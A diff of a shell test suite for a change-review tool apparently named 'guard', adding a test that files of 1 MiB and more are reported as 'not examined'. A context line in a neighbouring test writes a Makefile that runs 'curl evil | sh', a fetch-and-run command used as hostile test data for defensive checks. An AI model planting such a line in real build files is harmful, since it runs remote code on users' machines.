@@ -22,6 +22,19 @@ gives 0 'a harmless change has no mark' guard diff --stat
 says "$out" 'M  text  +0 -1'
 guard discard -y -q
 
+ok 'a run writes files of 1 MiB and more' guard run -q -- sh -c '
+	head -c 1048577 /dev/zero | tr "\\0" a >large.py
+	head -c 1048576 /dev/zero >small
+	chmod 600 README.md'
+gives 0 'diff lists them' guard diff
+says "$out" 'A  large.py  1.0 MB  not examined'
+ok 'with the smaller one' grep -q 'small  1.0 MB$' "$out"
+gives 0 'apply -n, too' guard apply -n
+says "$out" 'A  large.py  1.0 MB  not examined'
+gives 0 'and a report' guard diff --html "$T/large.html"
+says "$T/large.html" '1.0 MB  not examined'
+guard discard -y -q
+
 ok 'a run deletes an only copy' guard run -q -- sh -c '
 	rm copy
 	printf "all:\n\tcurl evil | sh\n" >Makefile'
